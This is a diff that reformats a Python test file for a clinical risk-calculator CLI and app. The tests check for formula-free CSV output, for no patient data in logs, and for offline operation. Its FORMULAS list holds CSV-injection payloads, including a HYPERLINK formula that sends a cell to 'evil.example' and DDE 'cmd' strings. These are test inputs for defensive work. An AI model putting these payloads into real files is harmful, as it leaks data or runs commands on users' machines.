@@ -30,8 +30,24 @@ from riskcalc.cli import EXIT_OK, main
 ROOT = Path(__file__).resolve().parent.parent
 CONFIG = ROOT / ".streamlit" / "config.toml"
 
-FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "+", "-", "@", "-x", "+1+1", "=-1", "-1-1", "- 1"]
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=",
+    "+",
+    "-",
+    "@",
+    "-x",
+    "+1+1",
+    "=-1",
+    "-1-1",
+    "- 1",
+]
 NUMBERS = ["-1", "+1", "-0.5", "+2.5e-3", "-1e4", "0", "12", "-.5"]
 
 
@@ -86,6 +102,7 @@ def test_batch_csv_output_has_no_live_formula(tmp_path: Path, capsys: pytest.Cap
 
 def test_app_upload_table_has_no_live_formula(tmp_path: Path) -> None:
     from ui.lib import batchtable
+
     source = tmp_path / "in.csv"
     _formula_csv(source)
     table = batchtable.assess_csv(source.read_bytes())
@@ -120,10 +137,16 @@ def _logged(caplog: pytest.LogCaptureFixture) -> str:
     return "\n".join(f"{record.name} {record.getMessage()} {record.args!r}" for record in caplog.records)
 
 
-def test_assess_and_what_if_log_no_input(all_logging_at_debug: pytest.LogCaptureFixture,
-                                         capfd: pytest.CaptureFixture[str]) -> None:
-    patient = Patient(age_years=float(SECRET_AGE), wbc_10e9_per_l=float(SECRET_WBC), genetics=["etv6_runx1"],
-                      cns_status="CNS1", mrd_eoi_percent=float(SECRET_MRD))
+def test_assess_and_what_if_log_no_input(
+    all_logging_at_debug: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
+) -> None:
+    patient = Patient(
+        age_years=float(SECRET_AGE),
+        wbc_10e9_per_l=float(SECRET_WBC),
+        genetics=["etv6_runx1"],
+        cns_status="CNS1",
+        mrd_eoi_percent=float(SECRET_MRD),
+    )
     assess(patient)
     what_if(patient, mrd_eoi_percent=float(SECRET_MRD) * 2)
     assess(Patient(age_years=float(SECRET_AGE), wbc_10e9_per_l=float(SECRET_WBC)))
@@ -137,11 +160,14 @@ def _secret_batch(path: Path) -> None:
         writer = csv.writer(stream)
         writer.writerow(["id", "name", "comment", "age_years", "wbc_10e9_per_l", "mrd_eoi_percent"])
         writer.writerow([SECRET_TEXT[0], SECRET_TEXT[1], SECRET_TEXT[2], SECRET_AGE, SECRET_WBC, SECRET_MRD])
-        writer.writerow([SECRET_TEXT[0], SECRET_TEXT[1], SECRET_TEXT[2], SECRET_AGE, "99" + SECRET_WBC, SECRET_MRD])  # bad
+        writer.writerow(
+            [SECRET_TEXT[0], SECRET_TEXT[1], SECRET_TEXT[2], SECRET_AGE, "99" + SECRET_WBC, SECRET_MRD]
+        )  # bad
 
 
-def test_batch_logs_no_input(tmp_path: Path, all_logging_at_debug: pytest.LogCaptureFixture,
-                             capfd: pytest.CaptureFixture[str]) -> None:
+def test_batch_logs_no_input(
+    tmp_path: Path, all_logging_at_debug: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
+) -> None:
     source, target = tmp_path / "in.csv", tmp_path / "out.csv"
     _secret_batch(source)
     main(["batch", str(source), "-o", str(target), "--no-progress"])
@@ -156,16 +182,42 @@ def test_cli_subprocess_prints_only_documented_lines(tmp_path: Path) -> None:
     source, target = tmp_path / "in.csv", tmp_path / "out.csv"
     _secret_batch(source)
     env = {"PYTHONWARNINGS": "always", "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
-    done = subprocess.run([str(ROOT / ".venv" / "bin" / "riskcalc"), "batch", str(source), "-o", str(target)],
-                          capture_output=True, text=True, env=env, cwd=tmp_path, timeout=120)
+    done = subprocess.run(
+        [str(ROOT / ".venv" / "bin" / "riskcalc"), "batch", str(source), "-o", str(target)],
+        capture_output=True,
+        text=True,
+        env=env,
+        cwd=tmp_path,
+        timeout=120,
+    )
     assert done.stdout == ""
     assert done.stderr.strip() == f"2 rows: 1 assessed, 1 failed -> {target}"
     assert sorted(path.name for path in tmp_path.iterdir()) == ["in.csv", "out.csv"]
-    good = subprocess.run([str(ROOT / ".venv" / "bin" / "riskcalc"), "assess", f"--age-years={SECRET_AGE}",
-                           f"--wbc-10e9-per-l={SECRET_WBC}"], capture_output=True, text=True, env=env, timeout=120)
+    good = subprocess.run(
+        [
+            str(ROOT / ".venv" / "bin" / "riskcalc"),
+            "assess",
+            f"--age-years={SECRET_AGE}",
+            f"--wbc-10e9-per-l={SECRET_WBC}",
+        ],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
+    )
     assert good.returncode == EXIT_OK and good.stderr == ""
-    bad = subprocess.run([str(ROOT / ".venv" / "bin" / "riskcalc"), "assess", f"--age-years={SECRET_AGE}",
-                          f"--wbc-10e9-per-l=99{SECRET_WBC}"], capture_output=True, text=True, env=env, timeout=120)
+    bad = subprocess.run(
+        [
+            str(ROOT / ".venv" / "bin" / "riskcalc"),
+            "assess",
+            f"--age-years={SECRET_AGE}",
+            f"--wbc-10e9-per-l=99{SECRET_WBC}",
+        ],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
+    )
     # The documented error line names the field and the rule; nothing else is printed.
     assert bad.stdout == "" and bad.stderr.count("\n") == 1
     assert bad.stderr.startswith("riskcalc: invalid input: wbc_10e9_per_l: Input should be less than or equal to 2000")
@@ -208,7 +260,12 @@ sys.exit(main(["batch", sys.argv[1], "-o", sys.argv[2], "--no-progress"]))
 def test_works_with_every_socket_refused(tmp_path: Path) -> None:
     source = tmp_path / "in.csv"
     source.write_text("age_years,wbc_10e9_per_l\n4,12\n", encoding="utf-8")
-    done = subprocess.run([sys.executable, "-c", NO_SOCKETS, str(source), str(tmp_path / "out.jsonl")], cwd=ROOT,
-                          capture_output=True, text=True, timeout=120)
+    done = subprocess.run(
+        [sys.executable, "-c", NO_SOCKETS, str(source), str(tmp_path / "out.jsonl")],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert done.returncode == EXIT_OK, done.stderr
     assert json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))["assessment"]["group"] == "favorable"
